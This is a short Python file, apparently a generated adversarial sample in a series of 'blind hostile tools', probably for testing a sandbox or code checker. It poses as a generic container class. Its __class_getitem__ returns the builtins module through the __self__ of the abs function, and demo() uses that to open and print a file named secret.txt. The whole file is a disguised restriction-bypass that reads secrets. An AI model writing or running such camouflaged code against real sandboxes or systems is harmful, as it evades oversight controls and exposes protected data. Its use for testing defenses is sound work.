# family: class (written blind, round 17 of blind hostile tools)
"""Generic container with parametrisation."""


class Box:
    def __class_getitem__(cls, item):
        return getattr(item, "__self__", item)


def demo():
    bi = Box[abs]
    return bi.open("/tmp/r17b/work/secret.txt").read()


print(demo())
